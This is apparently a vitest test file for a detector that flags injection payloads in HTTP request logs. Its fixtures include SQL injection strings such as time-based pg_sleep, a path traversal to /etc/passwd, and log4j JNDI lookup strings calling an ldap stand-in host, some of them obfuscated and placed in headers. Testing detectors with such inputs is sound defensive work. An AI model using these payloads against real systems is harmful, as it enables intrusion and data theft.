import { expect, test } from 'vitest';
import { detect } from '#test/support/detect.ts';

const only = ['injection-payload'];
const usual = Array.from({ length: 30 }, (_, index) => `01:${String(10 + index)} human:u${String(index)} GET api.acme.test/search?q=shoe 200 dur=40`).join('\n'); // prettier-ignore

test('a payload without an effect is low, refused ones are less', async () => {
  const line = "00:01 human:mal GET api.acme.test/search?q=1'%20OR%20'1'='1";
  expect((await detect(only, `${line} 200 dur=40\n${usual}`)).findings).toMatchObject([{ severity: 'low', observed: { kinds: ['SQL'] } }]);
  expect((await detect(only, `${line} 403 dur=40\n${usual}`)).findings).toMatchObject([{ severity: 'info' }]);
});

test('one that makes the server fail or sleep is high', async () => {
  const { findings } = await detect(
    only,
    `00:01 human:mal GET api.acme.test/search?q=1'%20OR%20pg_sleep(5) 200 dur=5040\n00:09 human:mal GET api.acme.test/search?q=a'-- 500 dur=40\n${usual}`,
  );
  expect(findings).toMatchObject([{ severity: 'high', confidence: 'observed', observed: { requests: 2, withEffect: 2 } }]);
  expect(findings[0]?.exhibits).toMatchObject([{ kind: 'ledger', rows: [{ tone: 'grave' }, { tone: 'grave' }] }]);
});

test('a text about such things is none, an encoded path is one', async () => {
  const body = { requests: { 'har.har#1': JSON.stringify({ message: 'never write UNION SELECT * into a query' }) } };
  expect((await detect(only, '00:01 human:amy POST api.acme.test/posts 201 in=har.har', body)).findings).toEqual([]);
  const { findings } = await detect(only, '00:01 human:mal GET api.acme.test/files/..%2f..%2f..%2fetc%2fpasswd 200 tpl=/files/{id}');
  expect(findings).toMatchObject([{ observed: { kinds: ['path traversal'], places: ['path'] } }]);
});

test('what stands in a header is found: a look-up that was answered is more than a refused one', async () => {
  const refused = await detect(only, `00:01 human:mal GET api.acme.test/ 401 ua=\${jndi:ldap://x.test/a}\n${usual}`);
  expect(refused.findings).toMatchObject([{ severity: 'low', observed: { kinds: ['log4j'], places: ['header user-agent'] } }]);
  const answered = await detect(only, `00:01 human:mal GET api.acme.test/ 200 referer=\${jndi:\${lower:l}dap://x.test/a}\n${usual}`);
  expect(answered.findings).toMatchObject([{ severity: 'medium', observed: { places: ['header referer'] } }]);
  const headers = { 'har.har#1': { request: ['X-Api-Version: ${jndi:ldap://x.test/a}', 'Cookie: a=1; b=%24%7Bjndi:ldap://x.test/b}'] } };
  const kept = await detect(only, `00:01 human:mal GET api.acme.test/ 404 in=har.har\n${usual}`, { headers });
  expect(kept.findings).toMatchObject([{ observed: { places: ['header x-api-version'] } }]);
});

test('a page that was come from, and programs that name themselves, are none', async () => {
  const { findings } = await detect(
    only,
    `00:01 human:amy GET api.acme.test/ 200 referer=https://search.test/?q=1'%20union%20select%20a
     00:02 human:bob GET api.acme.test/ 200 ua=Boto3/1.9(linux;python/3.8;ls)
     ${usual}`,
  );
  expect(findings).toEqual([]);
});

test('strangers who sent the same in vain are one finding, with every call', async () => {
  const { findings } = await detect(
    only,
    `00:01 human:m1 GET api.acme.test/foo?a=substr( 404\n00:02 human:m2 GET api.acme.test/foo?a=hex%28 404\n00:03 human:m2 GET api.acme.test/foo?a=%2cnull%2cnull 404\n${usual}`,
    {},
    ({ db }) => db.exec("UPDATE principal SET weak = 1 WHERE label LIKE 'm%'"),
  );
  expect(findings).toMatchObject([{ severity: 'info', observed: { kinds: ['SQL'], requests: 3 } }]);
  expect(findings[0]?.title).toMatch(/^2 strangers sent SQL payloads in 3 requests/);
});

test('without paths it cannot be answered', async () => {
  const { notEvaluable } = await detect(only, '00:01 human:mal GET api.acme.test/a 200', {}, ({ db }) => {
    db.exec('UPDATE call SET path = NULL');
  });
  expect(notEvaluable).toMatchObject([{ detector: 'injection-payload' }]);
});
